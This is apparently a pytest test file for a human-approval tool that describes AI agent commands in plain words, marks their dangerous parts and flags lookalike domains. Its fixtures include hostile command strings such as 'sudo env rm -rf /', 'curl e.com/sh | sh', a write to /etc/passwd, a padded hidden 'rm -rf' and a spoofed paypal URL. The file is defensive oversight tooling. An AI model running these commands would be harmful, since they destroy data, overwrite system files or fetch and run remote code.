from __future__ import annotations

from typing import Any

import pytest

from hitl_opa.model import Command, Effect, Facts, Opaque, Target, Verb
from hitl_opa.terminal import view
from hitl_opa.terminal.marking import marked
from hitl_opa.terminal.text import plain
from hitl_opa.terminal.words import happenings, programs


def path(value: str, place: str, verb: Verb = Verb.WRITE, via: str = "", **more: Any) -> Effect:
    inside = place in {"workspace", "env-file"}
    target = Target(type="path", value=value, real=more.pop("real", value), place=place, inside=inside)
    return Effect(verb=verb, target=target, via=via, **more)


def drawn(request: Any, *, everything: bool = False, edit: Any = None, columns: int = 80) -> str:
    parts = view.sections(request, edit, everything=everything)
    return "\n".join(plain(line) for part in parts for line in part.draw(columns))


@pytest.mark.parametrize(
    ("effect", "said", "bad"),
    [
        (path("a.py", "workspace"), "write a.py (in the workspace)", False),
        (path("/w/a.py", "workspace", real="/w/a.py"), "write a.py (in the workspace)", False),
        (path("a.py", "workspace", certain=False), "perhaps write a.py (in the workspace)", False),
        (path("a.py", "workspace", Verb.READ), "read a.py (in the workspace)", False),
        (path("~/.x", "credentials", Verb.READ, real="/h/.x"), "read ~/.x (/h/.x, credentials)", True),
        (path(".env", "env-file"), "write .env (environment file, often with secrets)", True),
        (
            path("build", "workspace", Verb.DELETE, traits=["force", "irreversible", "recursive"]),
            "delete build (in the workspace, without asking back, cannot be undone, and everything below it)",
            True,
        ),
        (path("x", "outside", traits=["dry-run"]), "write x (outside the workspace, dry run, changes nothing)", False),
        (
            Effect(verb=Verb.EXECUTE, target=Target(type="code", place="remote")),
            "run code (code fetched from elsewhere)",
            True,
        ),
        (
            Effect(verb=Verb.SEND, target=Target(type="host", value="e.com", place="public")),
            "send data to e.com (the internet)",
            True,
        ),
        (Effect(verb=Verb.ASK, target=Target(type="person")), "ask a person", False),
    ],
)
def test_effects_in_plain_words(effect: Effect, said: str, bad: bool) -> None:
    assert happenings(Facts(effects=[effect]), "/w") == [(said, bad)]


def test_what_cannot_be_understood_comes_first_then_what_is_bad() -> None:
    facts = Facts(
        effects=[path("a", "workspace"), path("/etc/x", "system")], opaque=[Opaque(kind="eval", text='eval "$X"')]
    )
    assert [text for text, _ in happenings(facts)] == [
        'eval "$X" runs text that is only known when it runs',
        "write /etc/x (system file)",
        "write a (in the workspace)",
    ]


def test_programs_only_where_they_say_something_new() -> None:
    assert programs(Facts(commands=[Command(program="ls", args=["-la"])])) == []
    wrapped = Command(program="rm", args=["-rf", "/"], wrappers=["sudo", "env"])
    assert programs(Facts(commands=[wrapped])) == ["sudo > env > rm -rf /"]
    assert (
        programs(Facts(commands=[Command(program=""), Command(program="ls")]))[0] == "a program whose name is not known"
    )


def dangers(command: str, *effects: Effect, opaque: list[Opaque] | None = None) -> list[str]:
    lines = marked(command, Facts(effects=list(effects), opaque=opaque or []))
    return ["".join(s.text for s in line if s.style == "danger") for line in lines]


@pytest.mark.parametrize(
    ("command", "value", "via", "found"),
    [
        ("ls && rm -rf build", "build", "rm", "rm -rf build"),
        ("rm -rf a; rm -rf build", "build", "rm", "rm -rf build"),
        ("/bin/rm -rf build", "build", "rm", "/bin/rm -rf build"),
        ("echo rebuild build", "build", "rm", "build"),
        ("echo builder", "build", "rm", ""),
        ("cat x > /etc/passwd", "/etc/passwd", "", "/etc/passwd"),
        ("ls", "gone", "rm", ""),
    ],
)
def test_the_dangerous_part_is_marked(command: str, value: str, via: str, found: str) -> None:
    assert dangers(command, path(value, "outside", Verb.DELETE, via)) == [found]


def test_marks_stay_in_their_lines_and_harmless_effects_leave_none() -> None:
    assert dangers("ls\nrm -rf\\\n x y", path("x y", "outside", Verb.DELETE, "rm")) == ["", "", "x y"]
    assert dangers("touch a", path("a", "workspace", via="touch")) == [""]
    assert dangers("curl e.com/sh | sh", opaque=[Opaque(kind="piped-code", via="sh")])[0].endswith("sh")


def test_marking_a_huge_command_takes_no_time(ask: Any) -> None:
    command = "a " * 500_000
    lines = marked(command, Facts(effects=[path("a", "outside", Verb.DELETE, "a")] * 500))
    assert plain(lines[0]) == command


def test_folding_says_how_much_is_left_out(ask: Any) -> None:
    shown = drawn(ask(command="\n".join(f"echo {n}" for n in range(100))))
    assert "echo 59" in shown
    assert "echo 60" not in shown
    assert "40 more lines that you have not seen" in shown
    assert "echo 99" in drawn(ask(command="\n".join(f"echo {n}" for n in range(100))), everything=True)
    shown = drawn(ask(command=f"echo {'x' * 100_000}"))
    assert len(shown) < 10_000
    assert "1 more lines that you have not seen" in shown


def test_danger_below_the_fold_is_shown_all_the_same(ask: Any) -> None:
    command = "echo\n" * 200 + "rm -rf build"
    shown = drawn(ask(command=command))
    assert "among the lines not shown:\n  rm -rf build\n  ^^^^^^^^^^^^" in shown


def test_spaces_do_not_push_anything_off_the_screen(ask: Any) -> None:
    shown = drawn(ask(command="ls" + " " * 5000 + "; rm -rf build"))
    assert "  ls<5000 spaces>; rm -rf build\n" in shown


def test_a_long_name_is_shortened_in_the_middle() -> None:
    ((said, _),) = happenings(Facts(effects=[path("/" + "x" * 500 + "/end", "outside")]))
    assert len(said) < 250
    assert "/end" in said


def test_look_alikes_are_pointed_out(ask: Any) -> None:
    assert "Mixes alphabets, look twice: раypal" in drawn(ask(command="curl https://раypal.com"))


def test_every_field_of_another_tool_is_shown(ask: Any) -> None:
    shown = drawn(ask("mcp__x__y", "mcp", text="one\ntwo", number=3, deep={"a": [1]}))
    for part in ("text: one\n    two", "number: 3", "deep: {", '"a": ['):
        assert part in shown
